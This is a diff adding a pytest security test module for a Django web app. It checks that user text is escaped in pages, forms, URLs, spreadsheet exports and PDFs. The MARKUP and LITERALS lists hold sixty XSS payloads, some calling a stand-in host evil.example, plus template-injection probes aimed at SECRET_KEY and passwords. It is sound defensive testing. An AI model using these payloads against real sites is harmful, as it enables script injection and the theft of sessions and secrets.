@@ -1,0 +1,371 @@
+"""
+T-XSS, T-TPL, T-CSV: what people write is shown as they wrote it, in pages, attributes, titles, messages and files.
+
+No page runs it, no template reads it, no spreadsheet counts it.
+"""
+
+import html
+import io
+import re
+from collections import defaultdict
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import quote, urlencode, urlsplit
+
+import openpyxl
+import pypdf
+import pytest
+from django.db import transaction
+from django.test import Client
+from django.urls import reverse
+from openpyxl.utils.escape import unescape
+
+from tests.formats.payloads import PAYLOADS
+from tests.security.pages import Found, content_of, named, route, walk
+from tests.security.papered import FIELDS, MARK, UNSEEN, papered
+from tests.security.world import World
+
+READERS = ("bkpsdm", "inspector", "staff", "head")
+LITERALS = (
+    "{{ 7|add:7 }}",
+    "{{7*7}}",
+    "{{ holder.code }}",
+    "{{ request.user.password }}",
+    "{{ settings.SECRET_KEY }}",
+    "{% now 'Y' %}",
+    "{% debug %}",
+    "{% include 'base.html' %}",
+    "{% load static %}{% static 'x' %}",
+    "{% csrf_token %}",
+    "{# komentar #}",
+    "{% comment %}x{% endcomment %}",
+    "{x.__class__}",
+    "{0.__class__.__mro__}",
+    "{}",
+    "{0}",
+    "{name}",
+    "%s",
+    "%d",
+    "%(name)s",
+    "%(text)s %(session)s",
+    "%%",
+    "100 % benar",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{{7*7}}}",
+    "{{'{{'}}7*7{{'}}'}}",
+    "*{7*7}",
+    "@(7*7)",
+)
+MARKUP = (
+    "<{m}>",
+    "<b {m}>x",
+    "</p><{m}>",
+    '"><{m}>',
+    "'><{m}>",
+    "`><{m}>",
+    "</title><{m}>",
+    "</textarea><{m}>",
+    "</option></select><{m}>",
+    "</script><{m}>",
+    "</style><{m}>",
+    "--><{m}>",
+    "]]><{m}>",
+    "<!--{m}",
+    "<![CDATA[<{m}>]]>",
+    "<?{m}?>",
+    "<img src=x onerror={m}()>",
+    "<img src=x onerror=alert('{m}')>",
+    "<svg onload=alert('{m}')>",
+    "<svg><script>alert('{m}')</script></svg>",
+    "<script>alert('{m}')</script>",
+    "<SCRIPT SRC=//evil.example/{m}></SCRIPT>",
+    "<scr<script>ipt>alert('{m}')</script>",
+    "<iframe src=javascript:alert('{m}')>",
+    "<iframe srcdoc='<{m}>'>",
+    "<object data=data:text/html,{m}>",
+    "<embed src=//evil.example/{m}>",
+    "<base href=//evil.example/{m}>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
+    "<link rel=stylesheet href=//evil.example/{m}>",
+    "<style>*{background:url(//evil.example/{m})}</style>",
+    "<form action=//evil.example/{m}><button>x",
+    "<input autofocus onfocus=alert('{m}')>",
+    "<details open ontoggle=alert('{m}')>",
+    "<a href=javascript:alert('{m}')>x</a>",
+    "<a href='java\tscript:alert(\"{m}\")'>x</a>",
+    "<math><mtext><{m}>",
+    "<template><{m}></template>",
+    "<noscript><p title='</noscript><{m}>'>",
+    "<marquee onstart=alert('{m}')>",
+    "<video><source onerror=alert('{m}')>",
+    "<body onload=alert('{m}')>",
+    '" onmouseover="alert(\'{m}\')" x="',
+    "' onmouseover='alert(\"{m}\")' x='",
+    "\" autofocus onfocus=\"alert('{m}')",
+    '" style="background:url(//evil.example/{m})',
+    '" hx-get="//evil.example/{m}" hx-trigger="load',
+    "<div hx-on:load=alert('{m}')>",
+    "<div hx-get=//evil.example/{m} hx-trigger=load>",
+    "javascript:alert('{m}')",
+    "JaVaScRiPt:alert('{m}')//",
+    "data:text/html,<script>alert('{m}')</script>",
+    "&lt;{m}&gt;",
+    "&#60;{m}&#62;",
+    "&amp;lt;{m}&amp;gt;",
+    "\\u003c{m}\\u003e",
+    "%3C{m}%3E",
+    "\u003c\u0131mg src=x onerror={m}>",
+    "＜{m}＞",
+    "{{ '<{m}>'|safe }}",
+)
+# What no page of the site holds, whoever wrote it
+NEVER = frozenset({"iframe", "object", "embed", "base", "style", "template", "marquee", "math", "video", "frame"})
+RAW = re.compile("|".join(re.escape(text).replace(r"\{m\}", MARK.pattern) for text in MARKUP if "<" in text))
+
+
+class Judge(HTMLParser):
+    """What a page would do that it must not, and the marks it shows."""
+
+    def __init__(self, content: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = [found.group() for found in RAW.finditer(content)]
+        self.shown: set[str] = set()
+        self._script = False
+        self.feed(content)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Look at a tag."""
+        given = {name: value or "" for name, value in attrs}
+        if "pwx" in tag or tag in NEVER or (tag == "script" and not given.get("src", "").startswith("/static/")):
+            self.faults.append(f"<{tag}>")
+        if tag == "meta" and "http-equiv" in given:
+            self.faults.append("<meta http-equiv>")
+        for name, value in given.items():
+            bare = "".join(value.split()).lower()
+            leads = name in {"href", "src", "action", "formaction", "hx-get", "hx-post", "data", "srcdoc"}
+            scheme = bare.startswith(("javascript:", "data:", "//", "vbscript:"))
+            if "pwx" in name or name.startswith(("on", "hx-on")) or name == "style" or (leads and scheme):
+                self.faults.append(f"<{tag} {name}={value[:60]}>")
+            self.shown |= set(MARK.findall(value))
+        self._script = tag in {"script", "style"}
+
+    def handle_endtag(self, tag: str) -> None:
+        """Look at the end of a tag."""
+        if "pwx" in tag:
+            self.faults.append(f"</{tag}>")
+        self._script = False
+
+    def handle_data(self, data: str) -> None:
+        """Look at text."""
+        if self._script and data.strip():
+            self.faults.append(f"script: {data[:60]}")
+        self.shown |= set(MARK.findall(data))
+
+    def handle_comment(self, data: str) -> None:
+        """Look at a comment."""
+        if "pwx" in data:
+            self.faults.append(f"<!--{data[:60]}")
+
+    def handle_pi(self, data: str) -> None:
+        """Look at an instruction."""
+        self.faults.append(f"<?{data[:60]}")
+
+    def unknown_decl(self, data: str) -> None:
+        """Look at a declaration."""
+        self.faults.append(f"<![{data[:60]}")
+
+
+@pytest.fixture
+def quiet(caplog: pytest.LogCaptureFixture) -> None:
+    """Log no refusals."""
+    caplog.set_level("CRITICAL", logger="django.request")
+
+
+def kept(content: bytes) -> list[tuple[str, Any]]:
+    """Return the kind and value of every cell of a workbook."""
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return [
+        (cell.data_type, cell.value)
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+def visited(found: World, *, each: int, readers: tuple[str, ...] = READERS) -> Iterator[tuple[str, str, Any]]:
+    """Give every answer of the readers' walks: reader, address, answer."""
+    answers: list[tuple[str, str, Any]] = []
+    for reader in readers:
+
+        def visit(address: str, answer: Any, page: Found | None, reader: str = reader) -> None:
+            answers.append((reader, address, answer))
+
+        walk(found.client(reader), visit=visit, each=each)
+        yield from answers
+        answers.clear()
+
+
+def lists_of(found: World, reader: str) -> list[str]:
+    """Return the addresses of the lists that a reader may take away as a spreadsheet."""
+    seen: set[str] = set()
+
+    def visit(address: str, answer: Any, page: Found | None) -> None:
+        for link in page.links if page is not None else ():
+            if urlsplit(link).query == "format=xlsx":
+                seen.add(urlsplit(link).path)
+
+    walk(found.client(reader), visit=visit, each=1)
+    return sorted(seen)
+
+
+class TestTheJudge:
+    """What is looked for can be found."""
+
+    @pytest.mark.parametrize("text", [text for text in MARKUP if "<" in text and not text.startswith("{{")])
+    def test_finds_what_is_not_escaped(self, text: str) -> None:
+        assert Judge(f"<p>{text.replace('{m}', 'pwx01x01')}</p>").faults
+
+    def test_passes_what_is(self) -> None:
+        texts = [html.escape(text.replace("{m}", "pwx01x01")) for text in MARKUP]
+        pages = [f'<p title="{text}">{text}</p><textarea>{text}</textarea>' for text in texts]
+
+        assert [Judge(page).faults for page in pages] == [[] for _page in pages]
+        assert Judge(pages[0]).shown == {("01", "01")}
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("quiet")
+class TestTemplates:
+    """T-TPL."""
+
+    def test_literals_stay_as_they_are(self) -> None:
+        assert len(LITERALS) == 30
+        found = papered(LITERALS)
+        for reader, name in (("bkpsdm", "people"), ("bkpsdm", "units"), ("bkpsdm", "catalogue"), ("bkpsdm", "locks")):
+            client = found.client(reader)
+            page = client.get(reverse(name), {"format": "cetak"}).content.decode()
+            cells = {value for _kind, value in kept(client.get(reverse(name), {"format": "xlsx"}).content)}
+            assert [text for text in LITERALS if html.escape(text) not in page] == [], name
+            assert set(LITERALS) <= cells, name
+        pdf = pypdf.PdfReader(io.BytesIO(found.client("bkpsdm").get(reverse("locks"), {"format": "pdf"}).content))
+        words = "".join("".join(page.extract_text().split()) for page in pdf.pages)
+        assert [text for text in LITERALS if "".join(text.split()) not in words] == []
+
+    def test_what_is_searched_for_stays_as_it_is(self) -> None:
+        client = papered(LITERALS[:1]).client("bkpsdm")
+
+        for text in LITERALS:
+            answer = client.get(reverse("units"), {"q": text})
+            assert html.escape(text) in answer.content.decode(), text
+
+
+@pytest.mark.slow
+@pytest.mark.django_db
+@pytest.mark.usefixtures("quiet")
+class TestSpreadsheets:
+    """T-CSV: every list as a spreadsheet holds what was written, as text."""
+
+    def test_no_cell_is_a_formula_and_every_text_comes_back(self) -> None:
+        found = papered(PAYLOADS)
+        seen: dict[str, int] = {}
+        for reader in READERS:
+            client = found.client(reader)
+            for path in lists_of(found, reader):
+                cells = kept(client.get(path, {"format": "xlsx"}).content)
+                assert [value for kind, value in cells if kind == "f"] == [], path
+                texts = {value for _kind, value in cells} | {unescape(str(value)) for _kind, value in cells}
+                back = {text for text in PAYLOADS if text in texts}
+                seen[route(path)] = max(seen.get(route(path), 0), len(back))
+        assert len(seen) >= 10
+        for name in ("people", "units", "catalogue", "locks", "corrections_waiting", "audit_log", "viewers"):
+            assert seen[name] == len(PAYLOADS), f"{name}: {seen[name]} of {len(PAYLOADS)} texts came back"
+
+
+@pytest.mark.slow
+@pytest.mark.django_db
+@pytest.mark.usefixtures("quiet")
+class TestMarkup:
+    """T-XSS: sixty pieces of markup in every text that pages show."""
+
+    def test_no_page_runs_it(self) -> None:
+        assert len(MARKUP) == 60
+        found = papered(MARKUP)
+        shown: dict[int, set[str]] = defaultdict(set)
+        checked = 0
+        for reader, address, answer in visited(found, each=80):
+            kind = answer.get("Content-Type", "")
+            assert answer.status_code < 500, address
+            if kind.startswith("text/html"):
+                judged = Judge(answer.content.decode())
+                assert judged.faults == [], f"{reader} {address}"
+                checked += 1
+                for place, number in judged.shown:
+                    shown[int(place)].add(number)
+            elif kind.startswith("application/pdf"):
+                content = content_of(answer)
+                assert b"/JavaScript" not in content, address
+                assert b"/URI" not in content, address
+        assert checked >= 400
+        hidden = {FIELDS[place] for place in range(len(FIELDS)) if not shown[place]}
+        assert hidden == UNSEEN, "a text that is on no page: say so in UNSEEN, or lead a reader to it"
+        whole = [FIELDS[place] for place, numbers in shown.items() if len(numbers) >= 40]
+        assert len(whole) >= 15  # short fields cut most of the texts off before their mark
+
+    def test_no_form_gives_it_back(self) -> None:
+        found = papered(MARKUP[:2])
+        echoed = set()
+        for reader in ("staff", "bkpsdm", "inspector"):
+            client = found.client(reader)
+            forms = {}
+
+            def visit(address: str, answer: Any, page: Found | None) -> None:
+                for form in page.forms if page is not None else ():
+                    forms.setdefault(form.identity, form)  # noqa: B023 (used within the turn)
+
+            walk(client, visit=visit, each=1)
+            for form in forms.values():
+                if route(form.action) == "account_logout":
+                    continue
+                for place, text in enumerate(MARKUP):
+                    said = dict.fromkeys(form.fields, text.replace("{m}", f"pwx99x{place:02d}"))
+                    with transaction.atomic():
+                        answer = (
+                            client.post(form.action, said) if form.method == "post" else client.get(form.action, said)
+                        )
+                        transaction.set_rollback(True)
+                    assert answer.status_code < 500, f"{form} {text}"
+                    if answer.get("Content-Type", "").startswith("text/html"):
+                        judged = Judge(answer.content.decode())
+                        assert judged.faults == [], f"{form} {text}"
+                        echoed |= {route(form.action) for mark, _number in judged.shown if mark == "99"}
+        assert echoed >= {"correction_ask", "lock_add", "units", "audit_log"}
+
+    def test_no_address_gives_it_back(self, client: Client) -> None:
+        reader = papered(MARKUP[:1]).client("bkpsdm")
+        for place, text in enumerate(MARKUP):
+            said = text.replace("{m}", f"pwx98x{place:02d}")
+            asked = urlencode({"q": said, "urut": said, "hal": said, "format": said, "tampil": said, "next": said})
+            for name, browser in (
+                ("units", reader),
+                ("catalogue", reader),
+                ("account_login", client),
+                ("help", client),
+            ):
+                answer = browser.get(f"{reverse(name)}?{asked}")
+                assert answer.status_code in {200, 302}, f"{name} {text}"
+                assert Judge(answer.content.decode()).faults == [], f"{name} {text}"
+            for address in (f"/{quote(said, safe='')}/", f"/unit/{quote(said, safe='')}/", f"/katalog/{quote(said)}/"):
+                assert Judge(reader.get(address).content.decode()).faults == [], address
+            answer = client.post(reverse("account_login"), {"login": said, "password": "x"})
+            assert Judge(answer.content.decode()).faults == [], text
+
+
+def test_every_list_is_a_page_of_the_site() -> None:
+    known = {name for name, _pattern in named()}
+
+    assert {"people", "units", "catalogue", "locks", "corrections_waiting", "audit_log", "viewers"} <= known
